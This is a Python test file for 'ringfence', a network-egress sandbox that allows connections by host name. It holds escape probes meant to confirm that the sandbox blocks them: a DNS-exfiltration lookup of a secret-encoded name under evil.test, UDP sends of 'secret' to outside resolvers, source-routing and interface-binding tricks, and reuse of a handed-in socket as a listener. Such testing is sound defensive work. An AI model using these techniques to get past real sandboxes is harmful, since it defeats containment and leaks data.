"""Programs that know no proxy: each connection is judged by name, and what was dialled is handed in.

Everything here runs for real: ringfence in a mount namespace whose /etc/hosts has names for servers of this process.
"""

import contextlib
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.looking import until
from tests.network.conftest import Echo, Web, listener

import ringfence

pytestmark = [pytest.mark.needs_userns, pytest.mark.needs_landlock(6)]
PYTHON = "/usr/bin/python3"
ROOT = os.geteuid() == 0
# A plain user gets a user namespace to mount in, in which he is root.
UNSHARE = ["unshare", "--mount"] if ROOT else ["unshare", "--user", "--map-root-user", "--mount"]
NAMES = "127.0.0.1 localhost good.test other.test bad.test db.test\n"


BY_BUBBLEWRAP = """
import sys
import msgspec
from ringfence.enforce import enactor
look = enactor._answer
enactor._answer = lambda *about: msgspec.structs.replace(look(*about), namespaces=False, namespaces_why="a test")
from ringfence.cli import main
sys.exit(main())
"""
STARTED = {"view": ["-m", "ringfence"], "bubblewrap": ["-c", BY_BUBBLEWRAP]}


class World:
    """A workspace, who builds its walls, and the names that the host knows."""

    def __init__(self, base: Path, by: str) -> None:
        self.base = base
        self.started = [sys.executable, *STARTED[by]]
        self.workspace = base / "ws"
        self.workspace.mkdir()
        self.hosts = base / "hosts"
        self.hosts.write_text(NAMES)
        (base / "home").mkdir()

    def words(self, argv: list[str], allowed: tuple[str, ...], *options: str) -> list[str]:
        flags = [word for one in allowed for word in ("--allow-host", one)]
        ringfence = [*self.started, "run", "--as-root", "--workspace", str(self.workspace)]
        script = 'mount --bind "$0" /etc/hosts && exec "$@"'
        return [*UNSHARE, "sh", "-c", script, str(self.hosts), *ringfence, *flags, *options, "--", *argv]

    def environ(self) -> dict[str, str]:
        return {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(self.base / "home"), "LANG": "C.UTF-8"}

    def run(self, argv: list[str], *allowed: str, options: tuple[str, ...] = ()) -> dict[str, Any]:
        done = subprocess.run(
            self.words(argv, allowed, "--json", *options), cwd=self.workspace, env=self.environ(),
            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=50,
        )  # fmt: skip
        assert done.stdout, done.stderr
        outcome: dict[str, Any] = json.loads(done.stdout)
        return outcome

    def python(self, program: str, *allowed: str) -> str:
        """What a program prints; it ends well."""
        outcome = self.run([PYTHON, "-I", "-S", "-c", PREAMBLE + program], *allowed)
        assert outcome["exitCode"] == 0, outcome
        said: str = outcome["stdout"]
        return said


PREAMBLE = """
import errno, os, select, socket, struct, sys, threading
def attempt(call):
    try:
        return call()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
"""


# A plain user's mount of our names takes a user namespace in which the owner of bubblewrap's program is not root.
BUBBLEWRAP = pytest.param("bubblewrap", marks=[pytest.mark.needs_bwrap, pytest.mark.needs_root])


@pytest.fixture(params=["view", BUBBLEWRAP])
def world(request: pytest.FixtureRequest) -> Iterator[World]:
    with tempfile.TemporaryDirectory(dir="/var/tmp") as base:
        yield World(Path(base), request.param)


def test_an_allowed_name_is_reached_and_no_other(world: World, echo: Echo) -> None:
    program = f"""
def say(host, port):
    with socket.create_connection((host, port), 10) as sock:
        sock.sendall(b"hello")
        return sock.recv(5).decode()
for host, port in [("good.test", {echo.port}), ("other.test", {echo.port}), ("good.test", 1),
                   ("127.0.0.1", {echo.port}), ("198.18.0.77", {echo.port}), ("1.2.3.4", {echo.port}),
                   ("::ffff:127.0.0.1", {echo.port})]:
    try:
        print(host, port, say(host, port))
    except socket.gaierror:
        print(host, port, "unknown")
    except OSError as error:
        print(host, port, errno.errorcode[error.errno])
"""
    said = world.python(
        program, f"good.test:{echo.port}", f"127.0.0.2:{echo.port}", "good.test:1", f"[::1]:{echo.port}"
    )

    # The name is allowed and leads to a loopback address that nobody named.
    assert [line.split()[-1] for line in said.splitlines()] == [
        "EACCES", "unknown", "EACCES", "ECONNREFUSED", "EACCES", "EACCES", "ECONNREFUSED",
    ]  # fmt: skip
    assert echo.count == 0
    said = world.python(program, f"good.test:{echo.port}", f"127.0.0.1:{echo.port}")
    assert said.splitlines()[0] == f"good.test {echo.port} hello"
    assert said.splitlines()[3] == f"127.0.0.1 {echo.port} hello"  # named itself, so it has a port inside


@pytest.mark.parametrize("world", ["view"], indirect=True)  # bubblewrap makes a loopback of its own
@pytest.mark.parametrize("allowed", [(), ("good.test",)], ids=["alone", "by name"])
def test_who_asks_for_addresses_that_this_machine_can_use_gets_them(world: World, allowed: tuple[str, ...]) -> None:
    """As `getent ahostsv4`, aiohttp and others do: 127.0.0.1 and ::1 do not count for that."""
    program = """
def found(host, family):
    try:
        return len(socket.getaddrinfo(host, 80, family, socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG))
    except socket.gaierror:
        return "none"
for host, family in NAMES:
    print(found(host, family))
"""
    wanted = [("localhost", 2), ("127.0.0.1", 2), ("127.0.0.1", 0), ("::1", 10), ("::1", 0)]
    wanted += [(name, family) for name in allowed for family in (2, 0)]

    assert world.python(f"NAMES = {wanted}\n" + program, *allowed).split() == ["1"] * len(wanted)


def test_a_refusal_names_who_asked(world: World) -> None:
    program = 'attempt(lambda: socket.create_connection(("192.0.2.7", 443), 10)); print(os.getpid())'

    outcome = world.run([PYTHON, "-I", "-S", "-c", PREAMBLE + program], "good.test:443")

    asked = [(one["target"], one["pid"], one["exe"]) for one in outcome["denials"]]
    assert asked == [("192.0.2.7:443", int(outcome["stdout"]), os.path.realpath(PYTHON))], outcome


def test_a_refusal_names_the_line_of_its_rule(world: World) -> None:
    policy = world.base / "hosts.json"
    policy.write_text('{"network": {\n "allowedDomains": ["*.x.test"],\n "deniedDomains": ["bad.x.test"]}}')
    program = 'attempt(lambda: socket.create_connection(("bad.x.test", 443), 10))'

    outcome = world.run([PYTHON, "-I", "-S", "-c", PREAMBLE + program], options=("--policy", str(policy)))

    assert [(one["target"], one["origin"]) for one in outcome["denials"]] == [("bad.x.test", f"{policy}:3")], outcome


@pytest.mark.needs_root
def test_root_dials_for_the_owner_as_the_owner(world: World, web: Web) -> None:
    for path in (world.workspace, world.base / "home"):
        os.chown(path, 65534, 65534)
    world.base.chmod(0o755)
    fetch = f"curl -sS -m 10 http://good.test:{web.port}/x"
    script = f"id -u; head -1 /etc/hosts; getent hosts $(hostname) > /dev/null && {fetch}; read line; echo"
    with subprocess.Popen(
        world.words(["sh", "-c", script], ("good.test", f"127.0.0.1:{web.port}")), cwd=world.workspace,
        env=world.environ(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    ) as process:  # fmt: skip
        assert process.stdout
        assert [process.stdout.readline() for _ in range(2)] == ["65534\n", "127.0.0.1 localhost\n"]
        assert until(lambda: web.seen)
        (gate,) = until(lambda: gates(process.pid))
        status = Path(f"/proc/{gate}/status").read_text()
        said, _ = process.communicate("\n", timeout=60)

    assert said == f"GET /x good.test:{web.port} \n"
    assert "Uid:\t65534\t65534\t65534\t65534" in status


def test_a_closed_port_refuses_as_it_does_outside(world: World, closed_port: int) -> None:
    port = closed_port

    assert world.python(
        f"""
sock = socket.socket()
print(attempt(lambda: sock.connect(("good.test", {port}))))
sock.setblocking(False)
print(attempt(lambda: sock.connect(("good.test", {port}))))
print(bool(select.select([], [sock], [], 5)[1]), errno.errorcode[sock.getsockopt(1, socket.SO_ERROR)])
""",
        "good.test",
        f"127.0.0.1:{port}",
    ).split() == ["ECONNREFUSED", "EINPROGRESS", "True", "ECONNREFUSED"]


def test_a_socket_is_after_connecting_what_it_was_before(world: World, echo: Echo) -> None:
    said = world.python(
        f"""
sock = socket.socket()
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 77)
sock.settimeout(None)
number = sock.fileno()
os.set_inheritable(number, True)
sock.connect(("good.test", {echo.port}))
print(number == sock.fileno(), os.get_inheritable(number), os.get_blocking(number))
print(*(sock.getsockopt(*one) for one in ((6, 1), (1, 9), (6, 4))))
print(sock.getpeername()[1] == {echo.port}, sock.family.name)
print(attempt(lambda: sock.connect(("good.test", {echo.port}))))
six = socket.socket(socket.AF_INET6)
six.setblocking(False)
place = "::ffff:" + socket.gethostbyname("good.test")
print(attempt(lambda: six.connect((place, {echo.port}))), os.get_inheritable(six.fileno()), six.getblocking())
select.select([], [six], [], 5)
print(six.getsockopt(1, socket.SO_DOMAIN) == socket.AF_INET6, six.getpeername()[1] == {echo.port})
""",
        "good.test",
        f"127.0.0.1:{echo.port}",
    )

    assert said.splitlines() == [
        "True True True",
        "1 1 77",
        "True AF_INET",
        "EISCONN",
        "EINPROGRESS False False",
        "True True",
    ]


def test_threads_and_many_at_once(world: World, echo: Echo) -> None:
    said = world.python(
        f"""
place = (socket.gethostbyname("good.test"), {echo.port})
good = []
def work():
    for _ in range(5):
        with socket.create_connection(place, 20) as sock:
            sock.sendall(b"x" * 1000)
            got = 0
            while got < 1000:
                got += len(sock.recv(1000))
            good.append(got)
threads = [threading.Thread(target=work) for _ in range(40)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(len(good))
""",
        "good.test",
        f"127.0.0.1:{echo.port}",
    )

    assert (said, echo.count) == ("200\n", 200)


def test_a_socket_that_was_handed_in_becomes_nothing_else(world: World, echo: Echo) -> None:
    """Disconnected or half closed and made to listen, it would be a listener of the host's (KERNEL.md, tried)."""
    said = world.python(
        f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    return errno.errorcode[ctypes.get_errno()] if getattr(libc, name)(*arguments) < 0 else "done"
unspec = struct.pack("H14x", socket.AF_UNSPEC)
for half in (False, True):
    sock = socket.socket()
    sock.connect(("good.test", {echo.port}))
    if half:
        sock.shutdown(socket.SHUT_RDWR)
        sock.recv(1)
    fd = sock.fileno()
    print(call("connect", fd, unspec, 16), call("listen", fd, 5), call("bind", fd, struct.pack("H14x", 2), 16))
    again = socket.socket()
    again.setblocking(False)
    attempt(lambda: again.connect(("good.test", {echo.port})))
    again.shutdown(socket.SHUT_RDWR)
    print(call("listen", again.fileno(), 5), call("connect", again.fileno(), unspec, 16))
print(call("connect", fd, struct.pack("!HH4s8x", 0x0200, {echo.port}, bytes((127, 0, 0, 1))), 16))
""",
        "good.test",
        f"127.0.0.1:{echo.port}",
    )

    assert "done" not in said


def test_servers_of_the_run_talk_among_themselves_and_nobody_else_reaches_them(world: World) -> None:
    said = world.python(
        """
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    server = socket.socket(family)
    server.bind((address, 0))
    server.listen()
    client = socket.create_connection((address, server.getsockname()[1]), 5)
    peer, _ = server.accept()
    peer.sendall(b"hi")
    print(client.recv(2).decode(), attempt(lambda: socket.create_connection((address, 1), 5)))
udp, other = socket.socket(type=socket.SOCK_DGRAM), socket.socket(type=socket.SOCK_DGRAM)
udp.bind(("127.0.0.1", 0))
other.connect(udp.getsockname())
other.send(b"datagram")
print(udp.recv(10).decode())
print(attempt(lambda: other.connect((socket.gethostbyname("good.test"), 443))))
""",
        "good.test",
    )

    assert said.splitlines() == ["hi ECONNREFUSED", "hi ECONNREFUSED", "datagram", "ENETUNREACH"]


def test_a_full_backlog_keeps_the_caller_waiting_and_nobody_else(world: World, echo: Echo) -> None:
    said = world.python(
        f"""
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(0)
held = [socket.socket() for _ in range(6)]
def wait(sock):
    attempt(lambda: sock.connect(server.getsockname()))
for sock in held:
    threading.Thread(target=wait, args=(sock,), daemon=True).start()
with socket.create_connection(("good.test", {echo.port}), 10) as sock:
    sock.sendall(b"x")
    print(sock.recv(1).decode())
os._exit(0 if not sys.stdout.flush() else 1)
""",
        "good.test",
        f"127.0.0.1:{echo.port}",
    )

    assert said == "x\n"


def test_many_wait_at_a_full_backlog_as_they_do_outside(world: World) -> None:
    """As the clients of a test do whose server is slow."""
    said = world.python("""
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(5)
def take():
    while True:
        server.accept()[0].close()
        select.select([], [], [], 0.005)
threading.Thread(target=take, daemon=True).start()
said = []
def connect():
    said.append(attempt(lambda: socket.socket().connect(server.getsockname())))
clients = [threading.Thread(target=connect) for _ in range(250)]
for one in clients:
    one.start()
for one in clients:
    one.join()
print(len(said), {one for one in said if one})
""")

    assert said == "250 set()\n"


def test_unix_sockets_of_the_run_work_and_those_of_the_host_do_not(world: World) -> None:
    (world.base / "seen").mkdir()
    outside = world.base / "seen" / "outside.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(outside))
        server.listen()
        outside.chmod(0o777)
        program = f"""
held = []
for place in ("/tmp/s", "s", "\\0abstract"):
    server = socket.socket(socket.AF_UNIX)
    held.append(server)
    server.bind(place)
    server.listen()
    client = socket.socket(socket.AF_UNIX)
    print(attempt(lambda: client.connect(place)))
os.symlink("s", "link")
os.symlink({str(outside)!r}, "leaves")
for place in ("link", "./link", {str(outside)!r}, "leaves", "/proc/self/cwd/leaves", "missing", "/etc/passwd"):
    client = socket.socket(socket.AF_UNIX)
    print(place.rpartition("/")[2], attempt(lambda: client.connect(place)))
for _ in range(600):  # more than the warden remembers: those that are gone make room
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("gone")
    os.unlink("gone")
print("still", attempt(lambda: socket.socket(socket.AF_UNIX).connect("s")))
"""
        words = [PYTHON, "-I", "-S", "-c", PREAMBLE + program]
        said = world.run(words, "good.test", options=("--allow-read", str(outside.parent)))["stdout"]
        allowed = world.run(
            [
                PYTHON,
                "-I",
                "-S",
                "-c",
                PREAMBLE + f"print(attempt(lambda: socket.socket(1).connect({str(outside)!r})))",
            ],
            options=("--allow-socket", str(outside)),
        )

    assert said.splitlines() == [
        "None", "None", "None",
        "link None", "link None", "outside.sock EACCES", "leaves EACCES", "leaves EACCES", "missing ENOENT",
        "passwd ECONNREFUSED", "still None",
    ]  # fmt: skip
    assert allowed["stdout"] == "None\n", allowed


def test_a_forwarded_port_leads_in_and_no_other(world: World) -> None:
    free, closed = listener(), listener()
    port, other = (sock.getsockname()[1] for sock in (free, closed))
    free.close()
    closed.close()
    program = f"""
servers = [socket.create_server(("127.0.0.1", port)) for port in ({port}, {other})]
print("ready", flush=True)
for _ in range(3):
    client, _ = servers[0].accept()
    client.sendall(client.recv(5))
    client.close()
servers[1].setblocking(False)
print(attempt(servers[1].accept))
"""
    words = world.words([PYTHON, "-I", "-S", "-c", PREAMBLE + program], (), "--forward", str(port))
    process = subprocess.Popen(
        words, cwd=world.workspace, env=world.environ(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True
    )
    assert process.stdout
    assert process.stdout.readline() == "ready\n"
    for _ in range(3):
        with socket.create_connection(("127.0.0.1", port), 10) as sock:
            sock.sendall(b"hello")
            assert sock.recv(5) == b"hello"
        with contextlib.suppress(ConnectionRefusedError):  # whoever may listen there now
            socket.create_connection(("127.0.0.1", other), 10).close()

    assert (process.stdout.read(), process.wait(60)) == ("EAGAIN\n", 0)
    process.stdout.close()


def test_when_the_gate_dies_nothing_is_reached_and_the_outcome_says_so(world: World, echo: Echo) -> None:
    program = f"""
sock = socket.create_connection(("good.test", {echo.port}), 10)
print("ready", flush=True)
sys.stdin.readline()
print(attempt(lambda: socket.create_connection(("198.18.0.5", {echo.port}), 10)))
sock.sendall(b"x")
print(sock.recv(1).decode())
"""
    with gate_killed(world, echo, program) as process:
        out, err = process.communicate("\n", timeout=60)

    assert out.split() == ["ENETDOWN", "x"]  # what stood stands: no byte passes the gate
    assert "the process that dials for the run has ended" in err


def test_where_the_policy_says_so_the_run_ends_with_the_gate(world: World, echo: Echo) -> None:
    policy = world.workspace.parent / "ends.json"
    policy.write_text('{"network": {"endWithProxy": true}}')
    program = f"""
sock = socket.create_connection(("good.test", {echo.port}), 10)
print("ready", flush=True)
sys.stdin.read()
"""
    with gate_killed(world, echo, program, "--policy", str(policy)) as process:
        assert process.wait(60) == 123
        _, err = process.communicate()

    assert "was ended: the process that dials for it has ended" in err


@contextlib.contextmanager
def gate_killed(world: World, echo: Echo, program: str, *options: str) -> Iterator["subprocess.Popen[str]"]:
    """A run that is ready, and whose gate is dead."""
    words = world.words([PYTHON, "-I", "-S", "-c", PREAMBLE + program], ("good.test", f"127.0.0.1:{echo.port}"))
    at = words.index("run") + 1
    words[at:at] = options
    with subprocess.Popen(
        words, cwd=world.workspace, env=world.environ(), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True,
    ) as process:  # fmt: skip
        assert process.stdout
        assert process.stdout.readline() == "ready\n"
        (gate,) = until(lambda: gates(process.pid))
        os.kill(gate, 9)
        assert until(lambda: not is_gate(gate))
        yield process


def gates(pid: int) -> list[int]:
    """Those below a process, of which others come and go."""
    found = [pid]
    for one in found:
        with contextlib.suppress(OSError):
            found += map(int, Path(f"/proc/{one}/task/{one}/children").read_text().split())
    return [one for one in found if is_gate(one)]


def is_gate(pid: int) -> bool:
    try:
        return b"ringfence.gate" in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return False


def test_a_web_server_is_read_by_name(world: World, web: Web) -> None:
    outcome = world.run(
        ["curl", "-sS", "--max-time", "10", f"http://good.test:{web.port}/x"], "good.test", f"127.0.0.1:{web.port}"
    )

    assert outcome["stdout"] == f"GET /x good.test:{web.port} "


def test_the_proxies_are_there_for_who_asks_for_them(world: World, web: Web) -> None:
    url = f"http://good.test:{web.port}/x"
    for proxy in ("http://127.0.0.1:3128", "socks5h://127.0.0.1:1080", "socks5://127.0.0.1:1080"):
        words = ["curl", "-sS", "--max-time", "10", "--proxy", proxy, url]

        assert world.run(words, "good.test", f"127.0.0.1:{web.port}")["stdout"] == f"GET /x good.test:{web.port} "


def test_no_name_leaves_by_asking_for_it(world: World) -> None:
    """DNS exfiltration: the host's resolver is never asked for a name that is not allowed, nor for one that is, until
    somebody connects."""
    asked = []
    server = socket.socket(type=socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(0.2)
    thread = threading.Thread(target=lambda: asked.append(_heard(server)))
    thread.start()
    said = world.python(
        f"""
def lookup(name):
    try:
        return socket.gethostbyname(name)[:5]
    except socket.gaierror as error:
        return "unknown"
print(lookup("c2VjcmV0.evil.test"), lookup("good.test"))
for place in (("127.0.0.1", {server.getsockname()[1]}), ("8.8.8.8", 53), ("198.18.0.1", 53)):
    print(attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", place)))
""",
        "good.test",
    )
    thread.join()
    server.close()

    assert said.splitlines()[0] == "unknown 198.1"
    assert said.splitlines()[2:] == ["ENETUNREACH", "ENETUNREACH"]
    assert asked == [False]


def _heard(server: socket.socket) -> bool:
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        try:
            server.recv(100)
        except TimeoutError:
            continue
        return True
    return False


@pytest.mark.parametrize("number", [9, 50, 150])
@pytest.mark.parametrize("waits", [False, True])
def test_a_socket_that_is_in_an_epoll_set_before_it_connects_is_waited_for(
    world: World, echo: Echo, waits: bool, number: int
) -> None:
    """As Boost.Asio, nginx and Netty do it: edge-triggered, in two sets, changed and removed afterwards."""
    said = world.python(
        f"""
sets = [select.epoll(), select.epoll()]
sock = socket.socket()
os.dup2(sock.fileno(), {number})
sock = socket.socket(fileno={number})
sock.setblocking({waits})
every = select.EPOLLIN | select.EPOLLOUT | select.EPOLLERR | select.EPOLLHUP
sets[0].register(sock, every | select.EPOLLET)
sets[1].register(sock, select.EPOLLIN)
print(sock.connect_ex((socket.gethostbyname("good.test"), {echo.port})) in (0, errno.EINPROGRESS))
def events(one):
    found = one.poll(5)
    return [(fd == sock.fileno(), event) for fd, event in found]
print(events(sets[0]))
sock.setblocking(True)
sock.sendall(b"hello")
print(events(sets[0]), events(sets[1]), sock.recv(9))
sets[0].modify(sock, select.EPOLLOUT)
print(events(sets[0]))
sets[0].unregister(sock)
sets[1].unregister(sock)
print(sets[0].poll(0.1), sets[1].poll(0.1))
""",
        "good.test",
        f"127.0.0.1:{echo.port}",
    )

    assert said.splitlines() == [
        "True", "[(True, 4)]", "[(True, 5)] [(True, 1)] b'hello'", "[(True, 4)]", "[] []",
    ]  # fmt: skip


def test_who_waits_for_a_host_that_does_not_answer_takes_its_signals(world: World) -> None:
    """As of Ctrl-C, and of wget's --timeout: the kernel itself would give up after two minutes."""
    with listener() as full, contextlib.ExitStack() as clients:
        full.listen(0)
        port = full.getsockname()[1]
        for _ in range(4):
            client = clients.enter_context(socket.socket())
            client.setblocking(False)
            client.connect_ex(("127.0.0.1", port))
        said = world.python(
            f"""
import signal
def ring(*_):
    raise KeyboardInterrupt
signal.signal(signal.SIGALRM, ring)
signal.setitimer(signal.ITIMER_REAL, 1)
try:
    socket.create_connection(("good.test", {port}))
except KeyboardInterrupt:
    print("woken")
""",
            f"good.test:{port}",
            f"127.0.0.1:{port}",
        )

    assert said == "woken\n"


ANOTHER_NETWORK = """
sock = socket.socket()
sock.connect(("good.test", PORT))
lo = socket.if_nametoindex("lo")
ways = ((25, b"lo"), (62, lo), (25, b""))
print(*(attempt(lambda: sock.setsockopt(1, *way)) or "done" for way in ways))
"""


def test_no_connection_is_led_to_another_network(world: World, echo: Echo) -> None:
    """What is written then goes to whoever has the address there, as it was seen on a wire."""
    program = ANOTHER_NETWORK.replace("PORT", str(echo.port))
    bare = [PYTHON, "-I", "-S", "-c", PREAMBLE + program.replace("good.test", "127.0.0.1")]
    done = subprocess.run(bare, capture_output=True, text=True, check=True)
    assert done.stdout.startswith("done"), done.stdout

    said = world.python(program, "good.test", f"127.0.0.1:{echo.port}")

    assert said.split() == ["EPERM"] * 3


INTERFACES = """
import array, fcntl
def interfaces(sock):
    room = array.array("B", bytes(4096))
    size, _ = struct.unpack("iL", fcntl.ioctl(sock, 0x8912, struct.pack("iL", 4096, room.buffer_info()[0])))
    return {room.tobytes()[at:at + 16].rstrip(bytes(1)) for at in range(0, size, 40)}
sock = socket.socket()
sock.connect(("good.test", PORT))
print(interfaces(socket.socket()) <= {b"lo", b"lo:1"}, interfaces(sock) >= {b"lo"})
"""


def test_that_a_socket_tells_of_the_machine_is_said(world: World, echo: Echo) -> None:
    program = INTERFACES.replace("PORT", str(echo.port))

    outcome = world.run([PYTHON, "-I", "-S", "-c", PREAMBLE + program], "good.test", f"127.0.0.1:{echo.port}")

    assert outcome["stdout"].split() == ["True", "True"], outcome
    assert any("interfaces and addresses of this machine" in gap["what"] for gap in outcome["gaps"])


NEW_ADDRESS = """
import fcntl, json, socket, struct, subprocess, sys, threading
def loopback(name, request, rest):
    with socket.socket() as sock:
        fcntl.ioctl(sock, request, struct.pack("16s16s", name, rest))
def add(name, address):
    loopback(name, 0x8916, struct.pack("hH4s", socket.AF_INET, 0, socket.inet_aton(address)))
loopback(b"lo", 0x8914, struct.pack("h", 0x41))  # up
add(b"lo:1", "93.184.216.98")
server = socket.create_server(("0.0.0.0", 8000))
threading.Thread(target=lambda: [server.accept()[0].sendall(b"reached") for _ in range(9)], daemon=True).start()
with subprocess.Popen(json.loads(sys.argv[1]), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as run:
    print(run.stdout.readline().strip())
    add(b"lo:2", "93.184.216.99")
    with socket.create_connection(("93.184.216.99", 8000)) as bare:
        print(bare.recv(9).decode())
    print(run.communicate("\\n")[0].strip())
"""


def test_an_address_that_this_machine_gets_during_a_run_is_its_own(world: World) -> None:
    """As of a network that it joins: whoever owns an allowed name would lead it to this machine's services."""
    world.hosts.write_text("127.0.0.1 localhost\n93.184.216.99 moved.test\n")
    program = """
def hear(host):
    with socket.create_connection((host, 8000), 10) as sock:
        return sock.recv(9).decode()
print(hear("93.184.216.98"), flush=True)
input()
print(attempt(lambda: hear("moved.test")))
"""
    command = [PYTHON, "-I", "-S", "-c", PREAMBLE + program]
    ringfence = world.words(command, ("93.184.216.98:8000", "moved.test"))[len(UNSHARE) :]
    done = subprocess.run(
        [*UNSHARE, "--net", PYTHON, "-I", "-S", "-c", NEW_ADDRESS, json.dumps(ringfence)],
        cwd=world.workspace, env=world.environ(), capture_output=True, text=True, timeout=50,
    )  # fmt: skip

    assert done.stdout.split() == ["reached", "reached", "EACCES"], done


SOURCE_ROUTES = """
hop = socket.inet_aton("127.0.0.66")
routing = bytes((0, 4, 4, 1, 1, 0, 0, 0)) + bytes(16) + socket.inet_pton(socket.AF_INET6, "fd00::66")  # by segments
message = struct.pack("NiI", 16 + len(routing), 41, 57) + routing
SETTINGS = ((0, 4, bytes((1, 131, 7, 4)) + hop), (0, 4, bytes((1, 137, 7, 4)) + hop))
SETTINGS_6 = ((41, 57, routing), (41, 6, message))
def all_of(sock, settings):
    return [attempt(lambda: sock.setsockopt(*one)) or "done" for one in settings]
sock = socket.socket()
sock.connect(("good.test", PORT))
with socket.socket(socket.AF_INET6) as other:
    print(*all_of(sock, SETTINGS), *all_of(other, SETTINGS_6))
"""


def test_a_source_route_leads_no_socket_to_another_host(world: World, echo: Echo) -> None:
    """What is written to a connected socket then goes to the hop, as it was seen on a wire."""
    program = SOURCE_ROUTES.replace("PORT", str(echo.port))
    bare = [PYTHON, "-I", "-S", "-c", PREAMBLE + program.replace("good.test", "127.0.0.1")]

    done = subprocess.run(bare, capture_output=True, text=True, check=True)
    # Not every kernel knows segments, and only who may make raw sockets has the first two.
    assert "done" in done.stdout.split(), done.stdout

    said = world.python(program, "good.test", f"127.0.0.1:{echo.port}")
    assert said.split() == ["ENOPROTOOPT"] * 4


def test_the_commands_variables_name_no_proxy_to_dial_through(tmp_path: Path) -> None:
    """Who asks for a run chooses them, as an account of a service does: the gate would connect to any place in them."""
    with socket.create_server(("127.0.0.1", 0)) as proxy:
        proxy.settimeout(0)
        place = f"http://127.0.0.1:{proxy.getsockname()[1]}"
        program = "import socket; socket.create_connection(('a.invalid', 443), 10)"
        outcome = ringfence.run(
            [PYTHON, "-I", "-S", "-c", program],
            workspace=str(tmp_path),
            env={"HTTPS_PROXY": place, "ALL_PROXY": place, "PATH": "/usr/bin:/bin"},
            flags=ringfence.Flags(allow_host=("a.invalid",)),
            as_root=ROOT,
            capture=True,
        )
        assert outcome.exit_code == 1
        with pytest.raises(BlockingIOError):
            proxy.accept()


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
def test_what_is_learnt_names_the_address_too_that_had_to_be_named(world: World, address: str) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    world.hosts.write_text(f"{address} good.test\n127.0.0.1 localhost\n")
    learnt = world.base / "learnt.toml"
    with socket.create_server((address, 0), family=family) as server:
        port = server.getsockname()[1]
        program = f"import socket; socket.create_connection(('good.test', {port}), 10)"
        named = f"[{address}]:{port}" if family == socket.AF_INET6 else f"{address}:{port}"
        words = world.words([PYTHON, "-I", "-c", program], (f"good.test:{port}", named), "--to", str(learnt), "--check")
        words[words.index("run")] = "learn"
        done = subprocess.run(
            words, cwd=world.workspace, env=world.environ(), stdin=subprocess.DEVNULL, capture_output=True, text=True
        )

    assert tomllib.loads(learnt.read_text())["network"]["allowedDomains"] == [f"good.test:{port}", named]
    assert (done.returncode, "alone it exited with 0" in done.stderr) == (0, True), done.stderr
